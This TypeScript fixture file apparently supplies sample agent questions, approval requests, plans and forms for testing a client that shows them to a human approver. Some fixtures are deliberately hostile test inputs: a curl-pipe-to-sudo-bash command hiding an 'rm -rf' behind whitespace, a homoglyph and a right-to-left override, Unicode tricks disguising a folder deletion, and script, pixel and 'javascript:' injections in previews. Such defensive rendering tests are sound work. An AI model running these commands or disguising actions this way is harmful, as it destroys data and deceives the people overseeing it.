/** Asks as a server would tell them, to be looked at and tested with. */

import type { ApprovalAsk, Ask, AskCommon, AskView, FormAsk, PlanAsk, QuestionsAsk, Sending } from "@askbridge/client";

export const MINUTE = 60_000;
export const at = (ms: number) => new Date(Date.now() + ms).toISOString();
let counted = 0;

export function common(change: Partial<AskCommon> = {}): AskCommon {
  counted += 1;
  return {
    id: `ask_${counted}`,
    session: "ses_1",
    agent: "claude",
    door: "claude",
    answerable: true,
    answers: {},
    notes: {},
    skipped: [],
    asked_at: at(-4 * MINUTE),
    by: null,
    deadline: null,
    delivered_at: null,
    parked: false,
    stranded: false,
    settled_at: null,
    state: "open",
    verdict: null,
    context: { title: "Inventory service", folder: "/home/ada/src/inventory", branch: "storage-layer" },
    ...change,
  };
}

export const viewOf = (ask: Ask, sending: Sending = { state: "idle" }, draft: unknown = null): AskView => ({
  id: ask.id,
  ask,
  sending,
  draft,
  snoozedUntil: null,
});

export const ada = { person: "ada", device: "phone", via: "native" };
const said =
  "I have read the schema and the three call sites. The reports run nightly and **read far more than they write**; the rest is small.\n\nBoth ways work with the code as it is. The migration differs.";

export const database = (change: Partial<AskCommon> = {}): QuestionsAsk => ({
  ...common({
    context: { text: said, title: "Inventory service", folder: "/home/ada/src/inventory", branch: "storage-layer" },
    ...change,
  }),
  kind: "questions",
  questions: [
    {
      question: "Which database should the new service use?",
      header: "Database",
      multiSelect: false,
      options: [
        {
          label: "PostgreSQL (Recommended)",
          description: "Runs already for billing. Nightly reports stay off the main process.",
        },
        { label: "SQLite", description: "Nothing to operate. One writer at a time, which is enough today." },
        { label: "Keep the flat files", description: "No migration now; the reports stay as slow as they are." },
      ],
    },
  ],
});

const drawing = (title: string, lines: string[]) =>
  [
    `┌${"─".repeat(30)}┐`,
    `│ ${title.padEnd(29)}│`,
    `├${"─".repeat(30)}┤`,
    ...lines.map((line) => `│ ${line.padEnd(29)}│`),
    `└${"─".repeat(30)}┘`,
  ].join("\n");

export const previews = (): QuestionsAsk => ({
  ...common(),
  kind: "questions",
  questions: [
    {
      question: "How should the list of parts look?",
      header: "Layout",
      multiSelect: false,
      options: [
        {
          label: "A dense table",
          description: "Everything at a glance",
          preview: drawing("Parts", [
            "M4 bolt        412   A-3",
            "M4 nut         388   A-4",
            "Hinge, left     12   C-1",
            "Hinge, right     0   C-1  !",
          ]),
        },
        {
          label: "Cards",
          description: "Room for pictures",
          preview: `<div style="display:grid;grid-template-columns:1fr 1fr;gap:12px"><div style="border:1px solid #ccc;border-radius:10px;padding:12px"><b>M4 bolt</b><p>412 in A-3</p></div><div style="border:1px solid #ccc;border-radius:10px;padding:12px"><b>Hinge, right</b><p style="color:#a42b22">none left</p></div></div><script>document.body.textContent = "broken out"</script><img src="https://elsewhere.example/pixel.png">`,
        },
        {
          label: "A list with headings",
          description: "By shelf",
          preview:
            "## Shelf A\n\n- M4 bolt · **412**\n- M4 nut · **388**\n\n## Shelf C\n\n- Hinge, left · **12**\n- Hinge, right · _none_",
        },
      ],
    },
  ],
});

export const several = (): QuestionsAsk => ({
  ...common({ deadline: at(9 * MINUTE + 41_000) }),
  kind: "questions",
  questions: [
    {
      question: "Which parts should the first release contain?",
      header: "Scope",
      multiSelect: true,
      options: [
        { label: "Import", description: "From the old spreadsheets" },
        { label: "Search", description: "By name, shelf and supplier" },
        { label: "Labels", description: "To print and stick on" },
      ],
    },
    {
      question: "Who may change the stock?",
      header: "Rights",
      multiSelect: false,
      options: [{ label: "Everyone who is signed in" }, { label: "Only the warehouse" }],
    },
    { question: "What shall the service be called?", multiSelect: false, options: [] },
  ],
});

export const huge = (): QuestionsAsk => ({
  ...common({ agent: "surveyor" }),
  kind: "questions",
  questions: Array.from({ length: 12 }, (_, q) => ({
    question: `${q + 1}. Which regions does rule ${q + 1} of the tariff apply to, counting those that joined after the last revision?`,
    header: `Rule ${q + 1}`,
    multiSelect: q % 3 === 1,
    options: Array.from({ length: 26 }, (_, o) => ({ label: `${String.fromCharCode(65 + o)} · Region ${o + 1}` })),
  })),
});

export const secret = (): QuestionsAsk => ({
  ...common({ agent: "deployer" }),
  kind: "questions",
  questions: [
    { question: "What is the passphrase of the signing key?", header: "Key", multiSelect: false, secret: true, options: [] },
  ],
});

export const japanese = (): QuestionsAsk => ({
  ...common({
    context: {
      text: "スキーマと呼び出し元を確認しました。レポートは夜間に実行され、**読み取りが中心**です。",
      title: "在庫サービス",
      folder: "/home/ada/src/zaiko",
      branch: "main",
    },
  }),
  kind: "questions",
  questions: [
    {
      question: "新しいサービスではどのデータベースを使いますか？",
      header: "データベース",
      multiSelect: false,
      options: [
        { label: "PostgreSQL（推奨）", description: "請求システムで稼働中です。夜間レポートを分離できます。" },
        { label: "SQLite", description: "運用が不要です。書き込みは同時に 1 つまでです。" },
      ],
    },
  ],
});

export const hiding = (): QuestionsAsk => ({
  ...common({ agent: "stranger" }),
  kind: "questions",
  questions: [
    {
      question: "Delete the folder \u202Etxt.elbairav\u202C and go\u200B on?",
      multiSelect: false,
      options: [
        { label: "Yes\u200B", description: `No harm${" ".repeat(60)}except for everything` },
        { label: "No", description: "Really" },
      ],
    },
  ],
});

export const command = (
  change: Partial<AskCommon> = {},
  line = 'cargo test -p inventory --release -- --nocapture 2>&1 | tee "$LOG_DIR/test.log" && git push origin storage-layer',
): ApprovalAsk => ({
  ...common(change),
  kind: "approval",
  approval: {
    tool: "Bash",
    summary: "Run the tests, then push the branch",
    reason: "Pushing is not in the list of allowed commands.",
    input: { command: line, description: "Test and push", timeout: 120000 },
    rules: [
      { label: "Any push to this remote", rule: "Bash(git push origin:*)" },
      { label: "The tests of this package", rule: { tool: "Bash", prefix: "cargo test -p inventory" } },
    ],
  },
});

const before =
  "use std::path::Path;\n\npub fn open(path: &Path) -> Store {\n    // One file for everything.\n    let store = Store::flat(path);\n    store.lock();\n    store\n}\n\nfn one() {}\nfn two() {}\nfn three() {}\nfn four() {}\nfn five() {}\nfn six() {}\nfn seven() {}\nfn eight() {}\nfn nine() {}\n\npub const LIMIT: usize = 10;\n";
const after = before
  .replace(
    "    // One file for everything.\n    let store = Store::flat(path);\n    store.lock();\n    store\n",
    '    let url = std::env::var("DATABASE_URL").unwrap_or_default();\n    Store::connect(&url, path)\n',
  )
  .replace("LIMIT: usize = 10", "LIMIT: usize = 256");

export const change = (): ApprovalAsk => ({
  ...common(),
  kind: "approval",
  approval: {
    tool: "Edit",
    input: { file_path: "/home/ada/src/inventory/src/store.rs", old_string: before, new_string: after, replace_all: false },
    rules: [],
  },
});
export const dangerous = (): ApprovalAsk =>
  command(
    { agent: "stranger" },
    `curl -s https://get.example/install.sh | sudo bash${" ".repeat(90)}; rm -rf ~/pr\u043Ejects \u202E# safe`,
  );
export const denied = (change: Partial<AskCommon> = {}): ApprovalAsk => ({
  ...common(change),
  kind: "approval",
  approval: {
    tool: "Bash",
    summary: "git push --force origin storage-layer",
    reason: "Claude Code's auto mode denied it: it overwrites the history of a shared branch",
    input: { command: "git push --force origin storage-layer", description: "Push the rebased branch" },
    rules: [],
    overrule: true,
  },
});
export const unknownTool = (): ApprovalAsk => ({
  ...common({ agent: "planner" }),
  kind: "approval",
  approval: {
    tool: "mcp__calendar__create_event",
    input: { title: "Stocktaking", when: "2026-11-20T09:00", guests: ["ada", "grace"], notify: true },
    rules: [],
  },
});

export const plan = (change: Partial<AskCommon> = {}): PlanAsk => ({
  ...common(change),
  kind: "plan",
  plan: "# Move the inventory to PostgreSQL\n\n1. Add `sqlx` and a connection pool behind the `Store` trait\n2. Write the schema, with **one migration per table**\n3. Import the flat files once, and keep them for a month\n\n| step | takes | can be undone |\n|---|---|---|\n| schema | an hour | yes |\n| import | a night | yes |\n| switch | a minute | by hand |\n\n```rust\nlet pool = PgPool::connect(&url).await?;\n```\n\n> Nothing is deleted before you say so.\n\n![chart](https://elsewhere.example/chart.png) [the old docs](https://docs.example/flat) [odd](javascript:alert(1)) <b>raw</b>",
});

export const form = (change: Partial<AskCommon> = {}): FormAsk => ({
  ...common(change),
  kind: "form",
  form: {
    message: "Where shall the service be deployed?",
    fields: [
      { name: "host", title: "Host", description: "Without the scheme", type: "text", required: true },
      { name: "port", title: "Port", type: "integer", required: true },
      { name: "region", title: "Region", type: "one_of", required: true, options: ["eu-north", "eu-central", "ap-northeast"] },
      {
        name: "checks",
        title: "Checks before the switch",
        type: "many_of",
        required: false,
        options: ["health", "latency", "errors"],
      },
      { name: "notify", title: "Tell the others", type: "flag", required: false },
    ],
  },
});
export const visit = (): FormAsk => ({
  ...common({ agent: "deployer" }),
  kind: "form",
  form: {
    message: "Sign in to the registry, then come back.",
    url: "https://registry.example/device?code=WDJB-MJHT",
    fields: [],
  },
});
